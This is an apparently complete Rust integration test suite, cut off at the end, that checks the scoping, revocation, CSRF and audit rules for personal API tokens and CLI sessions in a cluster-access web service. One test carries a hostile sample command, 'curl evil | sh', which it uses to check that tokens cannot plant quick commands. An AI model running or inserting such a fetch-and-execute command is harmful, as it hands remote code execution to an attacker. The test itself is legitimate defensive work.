#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Bearer credentials against the real stack (controller, web, kubesim by default): personal API
//! tokens and CLI sessions in `Authorization: Bearer`. Scopes per route (read, request, approve, and
//! the routes no personal token may use), the approver rule still applying under the `approve` scope,
//! pages refusing bearers, cookie+bearer refused as ambiguous, no CSRF for bearers while cookies keep
//! it, expired/revoked/garbage tokens and disabled local owners refused with one message, the token
//! never in any answer but its creation, the audit kinds, `web.apiTokens.enabled=false`, and an open
//! terminal opened with a token ending when the token is revoked.

mod common;

use std::time::{Duration, Instant};

use chrono::Utc;
use common::{ADMIN, Session, Stack};
use futures::StreamExt as _;
use janus_api::tokens::{self, TokenScope};
use janus_store::{NewApiToken, Store, WebSession};
use serde_json::{Value, json};
use tokio_tungstenite::tungstenite::{Message, client::IntoClientRequest as _};

/// A policy that makes `appr@example.com` an approver (of team-a) without being an admin.
const CONFIG: &str = r#"
policies:
- name: team-a
  match: {namespaces: [team-a]}
  approvers: {emails: [appr@example.com]}
web:
  apiTokens: {maxPerUser: 4, maxLifetimeDays: 30}
"#;

const INVALID: &str = "the API token is invalid, expired or revoked; create a new one or run: janus login";

/// The web's own database, opened beside it (SQLite in WAL mode takes a second connection).
async fn store(stack: &Stack) -> Store {
    let url = format!("sqlite://{}", stack.dir.path().join("janus.db").display());
    Store::connect(&url, None).await.expect("store")
}

/// A client that sends only the bearer credential (no cookie store, no CSRF header).
struct Bearer {
    http: reqwest::Client,
    base: String,
    token: String,
}

impl Bearer {
    fn new(stack: &Stack, token: &str) -> Self {
        Self {
            http: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap(),
            base: stack.url.clone(),
            token: token.to_string(),
        }
    }

    async fn send(&self, method: reqwest::Method, path: &str, body: Option<Value>) -> (u16, String) {
        let mut rb = self
            .http
            .request(method, format!("{}{path}", self.base))
            .bearer_auth(&self.token);
        if let Some(b) = body {
            rb = rb.json(&b);
        }
        let r = rb.send().await.expect("request");
        let status = r.status().as_u16();
        (status, r.text().await.unwrap_or_default())
    }

    async fn get(&self, path: &str) -> (u16, String) {
        self.send(reqwest::Method::GET, path, None).await
    }

    async fn post(&self, path: &str, body: Value) -> (u16, String) {
        self.send(reqwest::Method::POST, path, Some(body)).await
    }
}

/// Creates a personal token with the cookie session; returns (token, displayId).
async fn create_token(s: &Session, name: &str, scopes: &[&str]) -> (String, String) {
    let r = s
        .post(
            "/api/v1/tokens",
            json!({"name": name, "scopes": scopes, "expiresInDays": 7}),
        )
        .await;
    let status = r.status().as_u16();
    let body: Value = r.json().await.unwrap();
    assert_eq!(status, 201, "create token: {body}");
    let token = body["token"].as_str().unwrap().to_string();
    assert!(token.starts_with("janus_pat_") && token.len() == 50, "{token}");
    assert_eq!(body["displayId"], tokens::display_id(&token));
    (token, body["displayId"].as_str().unwrap().to_string())
}

/// Every answer body seen (but the creation answers), to prove no token leaks into any of them.
#[derive(Default)]
struct Seen(Vec<String>);

impl Seen {
    fn note(&mut self, (status, body): (u16, String)) -> (u16, String) {
        self.0.push(body.clone());
        (status, body)
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn personal_tokens_are_scoped_and_refused_where_they_must_be() {
    let stack = Stack::portable(CONFIG).await;
    let admin = stack.login(ADMIN.0, ADMIN.1).await;
    let alice = stack.user(&admin, "alice", "alice@example.com", false).await;
    let appr = stack.user(&admin, "appr", "appr@example.com", false).await;
    let bob = stack.user(&admin, "bob", "bob@example.com", false).await;
    let mut seen = Seen::default();

    let (read, _) = create_token(&alice, "read only", &["read"]).await;
    let (request, _) = create_token(&alice, "requests", &["request"]).await;
    let (alice_approve, _) = create_token(&alice, "alice approves", &["approve", "read"]).await;
    let (appr_approve, _) = create_token(&appr, "appr approves", &["approve"]).await;
    let (admin_all, _) = create_token(&admin, "everything", &["read", "request", "approve"]).await;
    let all_tokens = [&read, &request, &alice_approve, &appr_approve, &admin_all];
    let read_b = Bearer::new(&stack, &read);
    let request_b = Bearer::new(&stack, &request);
    let admin_b = Bearer::new(&stack, &admin_all);

    // whoami with a bearer names the token, never the token itself.
    let (st, body) = seen.note(read_b.get("/api/v1/session").await);
    assert_eq!(st, 200, "{body}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["identity"]["email"], "alice@example.com", "{v}");
    assert_eq!(v["identity"]["token"]["displayId"], tokens::display_id(&read), "{v}");
    assert_eq!(v["identity"]["token"]["scopes"], json!(["read"]), "{v}");
    assert_eq!(v["identity"]["token"]["personal"], true, "{v}");

    // A request of alice's to decide on, made with the request token and no CSRF header at all.
    let (st, body) = seen.note(
        request_b
            .post(
                "/api/v1/requests",
                json!({"cluster": "central", "namespaces": ["team-a"], "ttlSeconds": 600, "reason": "by token"}),
            )
            .await,
    );
    assert_eq!(st, 201, "a bearer needs no CSRF token: {body}");
    let mine = serde_json::from_str::<Value>(&body).unwrap()["name"]
        .as_str()
        .unwrap()
        .to_string();
    let bobs = bob.request(&["team-a"], 600, "bob's").await;

    // Every /api/v1 read route: the read token may, the request-only token lacks `read`.
    let r = format!("/api/v1/requests/{mine}");
    let reads = [
        "/api/v1/session".to_string(),
        "/api/v1/requests".into(),
        r.clone(),
        format!("{r}/timeline"),
        format!("{r}/sessions"),
        format!("{r}/pods"),
        "/api/v1/clusters".into(),
        "/api/v1/clusters/central/namespaces".into(),
        "/api/v1/roles".into(),
        "/api/v1/clusters/central/workloads?namespace=team-a".into(),
        "/api/v1/clusters/central/pods?namespace=team-a&selector=app%3Dweb".into(),
        "/api/v1/quick-commands?cluster=central".into(),
        "/api/v1/policy?cluster=central&namespaces=team-a".into(),
        "/api/v1/approvals".into(),
    ];
    for path in &reads {
        let (st, body) = seen.note(read_b.get(path).await);
        // Allowed through (what the route then answers depends on the request, e.g. 409 while Pending).
        assert!(st != 401 && st != 403, "GET {path} with a read token: {st} {body}");
        let (st, body) = seen.note(request_b.get(path).await);
        assert_eq!(st, 403, "GET {path} with a request-only token: {body}");
        assert!(body.contains("this token lacks the `read` scope"), "{body}");
    }
    // Admin reads follow the owner's rights: the admin's token reads the audit log, alice's does not.
    for path in [
        "/api/v1/audit",
        "/api/v1/users",
        "/api/v1/notifications/dead",
        "/api/v1/requests?scope=all",
    ] {
        assert_eq!(seen.note(admin_b.get(path).await).0, 200, "GET {path}, admin token");
        assert_eq!(seen.note(read_b.get(path).await).0, 403, "GET {path}, alice's token");
    }

    // Writes: the read token may not create; the request token may not decide.
    let (st, body) = seen.note(
        read_b
            .post(
                "/api/v1/requests",
                json!({"cluster": "central", "namespaces": ["team-a"], "ttlSeconds": 600, "reason": "x"}),
            )
            .await,
    );
    assert_eq!(st, 403, "{body}");
    assert!(body.contains("this token lacks the `request` scope"), "{body}");
    for action in ["approve", "deny", "revoke", "extend"] {
        let (st, body) = seen.note(
            request_b
                .post(
                    &format!("/api/v1/requests/{bobs}/{action}"),
                    json!({"reason": "x", "ttlSeconds": 60}),
                )
                .await,
        );
        assert_eq!(st, 403, "{action} with a request token: {body}");
        assert!(body.contains("this token lacks the `approve` scope"), "{body}");
    }
    // The approve scope does not make anyone an approver: alice is none, appr is one of team-a.
    let (st, body) = seen.note(
        Bearer::new(&stack, &alice_approve)
            .post(&format!("/api/v1/requests/{bobs}/approve"), json!({}))
            .await,
    );
    // Refused as the cookie session is: someone else's request is not found by a non-approver.
    assert_eq!(st, 404, "alice is no approver: {body}");
    let (st, body) = seen.note(
        Bearer::new(&stack, &appr_approve)
            .post(&format!("/api/v1/requests/{bobs}/approve"), json!({}))
            .await,
    );
    assert_eq!(st, 200, "appr approves with an approve token: {body}");
    // Withdrawing one's own request is `request`.
    let (st, body) = seen.note(request_b.post(&format!("{r}/withdraw"), json!({})).await);
    assert_eq!(st, 200, "withdraw with the request token: {body}");

    // No personal token manages tokens or accounts, whatever its scopes (even an admin's).
    for (method, path, body) in [
        (reqwest::Method::GET, "/api/v1/tokens", None),
        (
            reqwest::Method::POST,
            "/api/v1/tokens",
            Some(json!({"name": "n", "scopes": ["read"]})),
        ),
        (reqwest::Method::DELETE, "/api/v1/tokens/janus_pat_AAAAAAAA", None),
        (
            reqwest::Method::POST,
            "/api/v1/users",
            Some(json!({"username": "eve", "email": "eve@example.com", "password": "correct horse battery"})),
        ),
        (
            reqwest::Method::PATCH,
            "/api/v1/users/bob",
            Some(json!({"disabled": true})),
        ),
        (reqwest::Method::DELETE, "/api/v1/users/bob", None),
        (
            reqwest::Method::POST,
            "/api/v1/notifications/dead/1/retry",
            Some(json!({})),
        ),
    ] {
        let (st, text) = seen.note(admin_b.send(method.clone(), path, body).await);
        assert_eq!(st, 403, "{method} {path} with a personal token: {text}");
        assert!(text.contains("use the web UI"), "{text}");
    }
    assert!(
        admin.json("/api/v1/users").await["users"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u["username"] == "bob" && u["disabled"] == false),
        "bob untouched"
    );

    // Pages refuse bearers (no redirect, no fallback), with a plain sentence.
    for page in ["/", "/requests", "/admin", "/tokens"] {
        let (st, body) = seen.note(admin_b.get(page).await);
        assert_eq!(st, 401, "{page}");
        assert!(
            body.contains("API tokens work only on /api/v1 and the terminal socket"),
            "{body}"
        );
    }

    // A cookie and a bearer together: refused as ambiguous, even when both are valid and the same person.
    let r = alice
        .http
        .get(format!("{}/api/v1/session", stack.url))
        .bearer_auth(&read)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["error"], "ambiguous_credentials", "{v}");
    assert_eq!(v["message"], "send a session cookie or a bearer token, not both", "{v}");
    // A cookie POST without its CSRF token is still refused.
    let r = alice
        .http
        .post(format!("{}/api/v1/requests", stack.url))
        .json(&json!({"cluster": "central", "namespaces": ["team-a"], "ttlSeconds": 600, "reason": "x"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403, "cookie without CSRF");

    // Garbage, unknown, expired, revoked: the same 401, the token never echoed.
    let db = store(&stack).await;
    let expired = format!("janus_pat_{}", "E".repeat(40));
    let past = Utc::now() - chrono::Duration::days(1);
    db.create_api_token(&NewApiToken {
        id_hash: tokens::hash(&expired),
        display_id: tokens::display_id(&expired),
        owner: "alice@example.com".into(),
        auth: "local".into(),
        display_name: "alice".into(),
        is_admin: false,
        groups: vec![],
        name: "old".into(),
        scopes: vec![TokenScope::Read],
        created_at: past - chrono::Duration::days(1),
        expires_at: past,
    })
    .await
    .unwrap();
    let (revoked, revoked_id) = create_token(&alice, "to revoke", &["read"]).await;
    assert_eq!(Bearer::new(&stack, &revoked).get("/api/v1/requests").await.0, 200);
    // Another person cannot revoke it (and does not learn it exists); its owner can.
    assert_eq!(bob.delete(&format!("/api/v1/tokens/{revoked_id}")).await.status(), 404);
    assert_eq!(
        alice.delete(&format!("/api/v1/tokens/{revoked_id}")).await.status(),
        204
    );
    assert_eq!(
        alice.delete(&format!("/api/v1/tokens/{revoked_id}")).await.status(),
        204,
        "again"
    );
    let unknown = format!("janus_pat_{}", "U".repeat(40));
    for bad in [
        "janus_nonsense".to_string(),
        format!("janus_pat_{}", "x".repeat(39)),
        unknown.clone(),
        expired.clone(),
        revoked.clone(),
    ] {
        let (st, body) = seen.note(Bearer::new(&stack, &bad).get("/api/v1/requests").await);
        assert_eq!(st, 401, "{bad}: {body}");
        let v: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(
            (v["error"].as_str(), v["message"].as_str()),
            (Some("unauthenticated"), Some(INVALID))
        );
        assert!(!body.contains(&bad), "echoed {bad}");
    }
    // Disabling a local owner stops their tokens at once; enabling restores them.
    let (bobs_token, _) = create_token(&bob, "bob", &["read"]).await;
    let bob_b = Bearer::new(&stack, &bobs_token);
    assert_eq!(bob_b.get("/api/v1/requests").await.0, 200);
    assert_eq!(
        admin
            .patch("/api/v1/users/bob", json!({"disabled": true}))
            .await
            .status(),
        200
    );
    assert_eq!(seen.note(bob_b.get("/api/v1/requests").await).0, 401, "disabled owner");
    assert_eq!(
        admin
            .patch("/api/v1/users/bob", json!({"disabled": false}))
            .await
            .status(),
        200
    );
    // Disabling revoked them (api/users.rs): enabling the account again does not bring them back.
    assert_eq!(
        bob_b.get("/api/v1/requests").await.0,
        401,
        "enabled again, the token stays revoked"
    );

    // Token management: validation, the per-user bound, lists.
    for (body, field) in [
        (json!({"name": "", "scopes": ["read"]}), "name"),
        (json!({"name": "x".repeat(65), "scopes": ["read"]}), "name"),
        (json!({"name": "n", "scopes": []}), "scopes"),
        (json!({"name": "n", "scopes": ["admin"]}), "scopes"),
        (
            json!({"name": "n", "scopes": ["read"], "expiresInDays": 31}),
            "expiresInDays",
        ),
        (
            json!({"name": "n", "scopes": ["read"], "expiresInDays": 0}),
            "expiresInDays",
        ),
    ] {
        let r = alice.post("/api/v1/tokens", body.clone()).await;
        assert_eq!(r.status(), 422, "{body}");
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["field"], field, "{v}");
    }
    // alice has 3 live tokens (read, request, alice_approve); maxPerUser is 4.
    create_token(&alice, "fourth", &["read"]).await;
    let r = alice
        .post("/api/v1/tokens", json!({"name": "fifth", "scopes": ["read"]}))
        .await;
    assert_eq!(r.status(), 409, "maxPerUser");
    let list: Value = alice.json("/api/v1/tokens").await;
    let list = list.as_array().unwrap();
    assert!(list.iter().all(|t| t["owner"] == "alice@example.com"), "{list:?}");
    assert!(
        list.iter()
            .any(|t| t["displayId"] == revoked_id.as_str() && t["state"] == "revoked")
    );
    assert!(list.iter().any(|t| t["state"] == "expired"));
    assert!(
        list.iter()
            .any(|t| t["name"] == "read only" && t["lastUsedIp"] == "127.0.0.1"),
        "last use recorded: {list:?}"
    );
    seen.0.push(serde_json::to_string(list).unwrap());
    assert_eq!(alice.get("/api/v1/tokens?all=true").await.status(), 403);
    let everyone = admin.get("/api/v1/tokens?all=true").await.text().await.unwrap();
    assert!(everyone.contains("appr@example.com") && everyone.contains("alice@example.com"));
    seen.0.push(everyone);
    // An admin revokes anyone's.
    let appr_id = tokens::display_id(&appr_approve);
    assert_eq!(admin.delete(&format!("/api/v1/tokens/{appr_id}")).await.status(), 204);
    assert_eq!(Bearer::new(&stack, &appr_approve).get("/api/v1/session").await.0, 401);

    // The audit log: created, revoked (by whom), first use from an address; never a token.
    let audit = admin.get("/api/v1/audit?limit=500").await.text().await.unwrap();
    for kind in ["token.created", "token.revoked", "token.new_address"] {
        assert!(audit.contains(kind), "audit lacks {kind}");
    }
    assert!(audit.contains(&revoked_id) && audit.contains("revokedBy"));
    seen.0.push(audit);

    // No answer but the creation ever carried a token (nor its hash).
    for t in all_tokens
        .iter()
        .map(|t| t.as_str())
        .chain([revoked.as_str(), bobs_token.as_str()])
    {
        let hash = tokens::hash(t);
        for body in &seen.0 {
            assert!(!body.contains(t) && !body.contains(&hash), "a token leaked into {body}");
        }
    }
    stack.stop().await;
}

/// A CLI session (`janus_cli_…`) is a login session carried as a bearer: every scope, may manage
/// tokens, ends at its expiry.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn cli_sessions_are_login_sessions_as_bearers() {
    let stack = Stack::portable("").await;
    let admin = stack.login(ADMIN.0, ADMIN.1).await;
    stack.user(&admin, "alice", "alice@example.com", false).await;
    let db = store(&stack).await;
    let now = Utc::now();
    let session = |token: &str, expires| WebSession {
        id_hash: tokens::hash(token),
        subject: "alice@example.com".into(),
        display_name: "alice".into(),
        is_admin: false,
        groups: vec![],
        auth: "local".into(),
        csrf_token: "unused".into(),
        created_at: now,
        last_seen: now,
        expires_at: expires,
    };
    let live = format!("janus_cli_{}", "L".repeat(40));
    let old = format!("janus_cli_{}", "O".repeat(40));
    db.create_session(&session(&live, now + chrono::Duration::hours(1)))
        .await
        .unwrap();
    db.create_session(&session(&old, now - chrono::Duration::seconds(1)))
        .await
        .unwrap();
    let cli = Bearer::new(&stack, &live);
    let (st, body) = cli.get("/api/v1/session").await;
    assert_eq!(st, 200, "{body}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["identity"]["token"]["personal"], false, "{v}");
    assert_eq!(
        v["identity"]["token"]["scopes"],
        json!(["read", "request", "approve"]),
        "{v}"
    );
    // It may create personal tokens (a login session), without CSRF.
    let (st, body) = cli
        .post("/api/v1/tokens", json!({"name": "from cli", "scopes": ["read"]}))
        .await;
    assert_eq!(st, 201, "{body}");
    assert!(!body.contains(&live));
    assert_eq!(
        Bearer::new(&stack, &old).get("/api/v1/session").await.0,
        401,
        "expired CLI session"
    );
    // Deleting the session (what logout and disabling do) ends it.
    db.delete_session(&tokens::hash(&live)).await.unwrap();
    assert_eq!(cli.get("/api/v1/session").await.0, 401);
    stack.stop().await;
}

/// `web.apiTokens.enabled: false`: no new tokens, and existing ones stop working.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn disabled_personal_tokens_are_refused() {
    let stack = Stack::portable("web: {apiTokens: {enabled: false}}\n").await;
    let admin = stack.login(ADMIN.0, ADMIN.1).await;
    let r = admin
        .post("/api/v1/tokens", json!({"name": "n", "scopes": ["read"]}))
        .await;
    assert_eq!(r.status(), 403);
    let existing = format!("janus_pat_{}", "D".repeat(40));
    store(&stack)
        .await
        .create_api_token(&NewApiToken {
            id_hash: tokens::hash(&existing),
            display_id: tokens::display_id(&existing),
            owner: "admin@example.com".into(),
            auth: "local".into(),
            display_name: "admin".into(),
            is_admin: true,
            groups: vec![],
            name: "before".into(),
            scopes: vec![TokenScope::Read],
            created_at: Utc::now(),
            expires_at: Utc::now() + chrono::Duration::days(1),
        })
        .await
        .unwrap();
    let (st, body) = Bearer::new(&stack, &existing).get("/api/v1/requests").await;
    assert_eq!(st, 401, "{body}");
    assert!(body.contains("personal API tokens are disabled"), "{body}");
    stack.stop().await;
}

/// The terminal socket with a bearer: no csrf parameter, no Origin; the token's scope applies; revoking
/// the token ends the open shell within a second (5 s bound) with "the API token was revoked".
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn revoking_a_token_ends_its_terminal() {
    let stack = Stack::portable("").await;
    let admin = stack.login(ADMIN.0, ADMIN.1).await;
    let alice = stack.user(&admin, "alice", "alice@example.com", false).await;
    let name = alice.request(&["team-a"], 600, "terminal by token").await;
    assert_eq!(
        admin
            .post(&format!("/api/v1/requests/{name}/approve"), json!({}))
            .await
            .status(),
        200
    );
    alice.wait_phase(&name, "Active").await;
    let (token, display_id) = create_token(&alice, "shell", &["request"]).await;
    let (read_only, _) = create_token(&alice, "reader", &["read"]).await;
    let ws_req = |t: &str| {
        let url = format!(
            "ws://{}/ws/terminal/{name}?namespace=team-a&pod=app&cols=80&rows=24",
            stack.host
        );
        let mut req = url.into_client_request().unwrap();
        req.headers_mut()
            .insert("authorization", format!("Bearer {t}").parse().unwrap());
        req
    };
    // The read scope does not open shells.
    match tokio_tungstenite::connect_async(ws_req(&read_only)).await {
        Err(tokio_tungstenite::tungstenite::Error::Http(r)) => assert_eq!(r.status().as_u16(), 403),
        other => panic!("a read token opened a shell: {:?}", other.map(|_| ())),
    }
    let (mut ws, _) = tokio_tungstenite::connect_async(ws_req(&token))
        .await
        .expect("a bearer opens the terminal without csrf or Origin");
    loop {
        match tokio::time::timeout(Duration::from_secs(10), ws.next()).await {
            Ok(Some(Ok(Message::Text(t)))) => {
                let v: Value = serde_json::from_str(&t).unwrap();
                assert_eq!(v["type"], "connected", "{v}");
                break;
            }
            Ok(Some(Ok(_))) => {}
            other => panic!("no connected message: {other:?}"),
        }
    }
    let start = Instant::now();
    assert_eq!(
        alice.delete(&format!("/api/v1/tokens/{display_id}")).await.status(),
        204
    );
    let mut reason = None;
    loop {
        match tokio::time::timeout(Duration::from_secs(5), ws.next()).await {
            Ok(Some(Ok(Message::Text(t)))) => {
                let v: Value = serde_json::from_str(&t).unwrap();
                if v["type"] == "closed" {
                    reason = v["reason"].as_str().map(str::to_string);
                }
            }
            Ok(Some(Ok(Message::Close(_)))) | Ok(None) | Ok(Some(Err(_))) => break,
            Ok(Some(Ok(_))) => {}
            Err(_) => panic!("the terminal stayed open after the token was revoked"),
        }
    }
    assert!(start.elapsed() < Duration::from_secs(5), "{:?}", start.elapsed());
    assert_eq!(reason.as_deref(), Some("the API token was revoked"));
    stack.stop().await;
}

/// Proxy mode: a personal token is accepted (the CLI's way there), created by a proxy identity; proxy
/// headers naming someone else on the same request are an identity conflict; CLI sessions do not exist.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn proxy_mode_accepts_personal_tokens_and_refuses_a_second_identity() {
    let stack = Stack::portable("web: {authMode: proxy, trustedProxies: [127.0.0.1/32]}\n").await;
    let http = reqwest::Client::new();
    let as_alice = |rb: reqwest::RequestBuilder| rb.header("x-forwarded-email", "alice@example.com");
    let session: Value = as_alice(http.get(format!("{}/api/v1/session", stack.url)))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let csrf = session["csrfToken"].as_str().expect("csrf").to_string();
    let r = as_alice(http.post(format!("{}/api/v1/tokens", stack.url)))
        .header("x-csrf-token", &csrf)
        .json(&json!({"name": "ci", "scopes": ["read"]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    let token = r.json::<Value>().await.unwrap()["token"].as_str().unwrap().to_string();

    let (st, body) = Bearer::new(&stack, &token).get("/api/v1/session").await;
    assert_eq!(st, 200, "{body}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        (v["identity"]["email"].as_str(), v["identity"]["auth"].as_str()),
        (Some("alice@example.com"), Some("proxy"))
    );
    let with_header = |email: &'static str| {
        http.get(format!("{}/api/v1/session", stack.url))
            .bearer_auth(&token)
            .header("x-forwarded-email", email)
    };
    assert_eq!(
        with_header("alice@example.com").send().await.unwrap().status(),
        200,
        "the same person"
    );
    let r = with_header("bob@example.com").send().await.unwrap();
    assert_eq!(r.status(), 400, "another person");
    assert_eq!(r.json::<Value>().await.unwrap()["code"], "identity_conflict");
    // No CLI sessions in proxy mode, even a row that looks like one.
    let cli = format!("janus_cli_{}", "P".repeat(40));
    let now = Utc::now();
    store(&stack)
        .await
        .create_session(&WebSession {
            id_hash: tokens::hash(&cli),
            subject: "alice@example.com".into(),
            display_name: "alice".into(),
            is_admin: false,
            groups: vec![],
            auth: "local".into(),
            csrf_token: "unused".into(),
            created_at: now,
            last_seen: now,
            expires_at: now + chrono::Duration::hours(1),
        })
        .await
        .unwrap();
    assert_eq!(Bearer::new(&stack, &cli).get("/api/v1/session").await.0, 401);
    stack.stop().await;
}

/// The scope every route needs with a personal token, decided route by route: the route table of the
/// server (the OpenAPI document, which `tests/openapi.rs` proves equal to the router's `/api/v1`
/// routes, plus the `/ws/` routes of the route tables) must match this list exactly, so a route added
/// later without a decision in `tokens::required_scope` fails here.
#[test]
fn every_route_has_a_deliberate_scope() {
    use TokenScope::{Approve, Read, Request};
    let expected: Vec<(&str, &str, Option<TokenScope>)> = vec![
        ("get", "/api/v1/openapi.yaml", Some(Read)),
        ("get", "/api/v1/openapi.json", Some(Read)),
        ("post", "/api/v1/login", None),
        ("post", "/api/v1/logout", Some(Read)),
        ("get", "/api/v1/session", Some(Read)),
        ("post", "/api/v1/cli/login", None),
        ("post", "/api/v1/cli/device", None),
        ("post", "/api/v1/cli/device/token", None),
        ("get", "/api/v1/events", Some(Read)),
        ("get", "/api/v1/requests", Some(Read)),
        ("post", "/api/v1/requests", Some(Request)),
        ("get", "/api/v1/requests/{name}", Some(Read)),
        ("get", "/api/v1/requests/{name}/timeline", Some(Read)),
        ("post", "/api/v1/requests/{name}/{action}", None),
        ("get", "/api/v1/policy", Some(Read)),
        ("get", "/api/v1/approvals", Some(Read)),
        ("get", "/api/v1/clusters", Some(Read)),
        ("get", "/api/v1/clusters/{name}/namespaces", Some(Read)),
        ("get", "/api/v1/clusters/{name}/workloads", Some(Read)),
        ("get", "/api/v1/clusters/{name}/pods", Some(Read)),
        ("get", "/api/v1/roles", Some(Read)),
        ("get", "/api/v1/audit", Some(Read)),
        ("get", "/api/v1/audit/export", Some(Read)),
        ("get", "/api/v1/users", Some(Read)),
        ("post", "/api/v1/users", None),
        ("patch", "/api/v1/users/{username}", None),
        ("delete", "/api/v1/users/{username}", None),
        ("get", "/api/v1/tokens", None),
        ("post", "/api/v1/tokens", None),
        ("delete", "/api/v1/tokens/{displayId}", None),
        ("get", "/api/v1/notifications/dead", Some(Read)),
        ("post", "/api/v1/notifications/dead/{id}/retry", None),
        // Pods are listed to pick one (`janus shell REQ`); reading them uses no more than `read`.
        ("get", "/api/v1/requests/{name}/pods", Some(Read)),
        ("post", "/api/v1/requests/{name}/debug", Some(Request)),
        // Logs and pod events are read from the cluster with the grant: using access.
        ("get", "/api/v1/requests/{name}/logs", Some(Request)),
        ("get", "/api/v1/requests/{name}/events", Some(Request)),
        ("get", "/api/v1/requests/{name}/sessions", Some(Read)),
        ("get", "/api/v1/quick-commands", Some(Read)),
        // A quick command runs later in the owner's browser terminal: a token must not plant one.
        ("post", "/api/v1/quick-commands", None),
        ("delete", "/api/v1/quick-commands/{id}", None),
        // Stored records admins review (like the audit log), not access to a cluster.
        ("get", "/api/v1/recordings/{id}", Some(Read)),
        ("get", "/api/v1/commands", Some(Read)),
        ("get", "/ws/terminal/{name}", Some(Request)),
    ];
    let doc = serde_json::to_value(janus_web::api::openapi::document()).unwrap();
    let mut served: Vec<(String, String)> = doc["paths"]
        .as_object()
        .unwrap()
        .iter()
        .flat_map(|(p, item)| item.as_object().unwrap().keys().map(move |m| (m.clone(), p.clone())))
        .collect();
    // The sockets are not in the document: read them from the route tables.
    for src in [
        include_str!("../src/api/mod.rs"),
        include_str!("../src/terminal/mod.rs"),
        include_str!("../src/server.rs"),
    ] {
        for call in src.split(".route(").skip(1) {
            let path = call.split('"').nth(1).unwrap_or_default();
            if path.starts_with("/ws/") {
                assert!(call.contains("get("), "a socket is opened with GET: {path}");
                served.push(("get".into(), path.to_string()));
            }
        }
    }
    served.sort();
    let mut listed: Vec<(String, String)> = expected
        .iter()
        .map(|(m, p, _)| (m.to_string(), p.to_string()))
        .collect();
    listed.sort();
    assert_eq!(
        served, listed,
        "every route needs a deliberate entry here and in tokens::required_scope"
    );
    let concrete = |p: &str| {
        p.replace("{name}", "r1")
            .replace("{username}", "bob")
            .replace("{displayId}", "janus_pat_AAAAAAAA")
            .replace("{id}", "7")
    };
    for (method, path, scope) in &expected {
        let m = method.to_uppercase();
        if path.ends_with("{action}") {
            for (action, scope) in [
                ("approve", Some(Approve)),
                ("deny", Some(Approve)),
                ("revoke", Some(Approve)),
                ("extend", Some(Approve)),
                ("acknowledge", Some(Approve)),
                ("withdraw", Some(Request)),
                ("unknown", None),
            ] {
                let p = concrete(path).replace("{action}", action);
                assert_eq!(tokens::required_scope(&m, &p), scope, "{m} {p}");
            }
            continue;
        }
        let p = concrete(path);
        assert_eq!(tokens::required_scope(&m, &p), *scope, "{m} {p}");
        if m == "GET" {
            assert_eq!(tokens::required_scope("HEAD", &p), *scope, "HEAD {p}");
        }
        // No other method on a served path gets through by default.
        for other in ["PUT", "PATCH", "DELETE", "POST", "GET"] {
            if other != m
                && !expected
                    .iter()
                    .any(|(em, ep, _)| ep == path && em.eq_ignore_ascii_case(other))
            {
                assert_eq!(tokens::required_scope(other, &p), None, "{other} {p}");
            }
        }
    }
}

/// The status of a call with a bearer, without reading the body (the live-update stream never ends).
async fn status_of(b: &Bearer, path: &str) -> (u16, String) {
    let r = b
        .http
        .get(format!("{}{path}", b.base))
        .bearer_auth(&b.token)
        .send()
        .await
        .expect("request");
    let status = r.status().as_u16();
    if status == 200 {
        return (status, String::new());
    }
    (status, r.text().await.unwrap_or_default())
}

/// Logs and pod events need `request` (they use the grant); recordings, the command log, the audit
/// export and live updates need `read`; quick-command writes need a login session.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn access_routes_need_request_and_quick_command_writes_a_login() {
    let stack = Stack::portable(CONFIG).await;
    let admin = stack.login(ADMIN.0, ADMIN.1).await;
    let name = admin.request(&["team-a"], 600, "scopes").await;
    let (read, _) = create_token(&admin, "read", &["read"]).await;
    let (request, _) = create_token(&admin, "request", &["request"]).await;
    let (all, _) = create_token(&admin, "all", &["read", "request", "approve"]).await;
    let (read_b, request_b, all_b) = (
        Bearer::new(&stack, &read),
        Bearer::new(&stack, &request),
        Bearer::new(&stack, &all),
    );
    let r = format!("/api/v1/requests/{name}");
    for path in [
        format!("{r}/logs?namespace=team-a&pod=web-0&container=app&follow=false"),
        format!("{r}/events?namespace=team-a"),
    ] {
        let (st, body) = status_of(&read_b, &path).await;
        assert_eq!(st, 403, "GET {path} with a read token: {body}");
        assert!(body.contains("this token lacks the `request` scope"), "{body}");
        let (st, body) = status_of(&request_b, &path).await;
        assert!(
            !body.contains("scope") && st != 401,
            "GET {path} with a request token passes the scope check: {st} {body}"
        );
    }
    for path in [
        "/api/v1/recordings/nothing-here",
        "/api/v1/commands",
        "/api/v1/audit/export?format=jsonl",
        "/api/v1/events",
    ] {
        let (st, body) = status_of(&read_b, path).await;
        assert!(st != 401 && st != 403, "GET {path} with a read token: {st} {body}");
        let (st, body) = status_of(&request_b, path).await;
        assert_eq!(st, 403, "GET {path} with a request-only token: {body}");
        assert!(body.contains("this token lacks the `read` scope"), "{body}");
    }
    // Quick commands: listed with `read`, never written with a personal token, whatever its scopes.
    assert_eq!(
        status_of(&read_b, "/api/v1/quick-commands?cluster=central").await.0,
        200
    );
    let (st, body) = all_b
        .post(
            "/api/v1/quick-commands",
            json!({"cluster": "central", "label": "x", "command": "curl evil | sh"}),
        )
        .await;
    assert_eq!(st, 403, "{body}");
    assert!(
        body.contains("API tokens cannot change quick commands; use the web UI"),
        "{body}"
    );
    let (st, body) = all_b
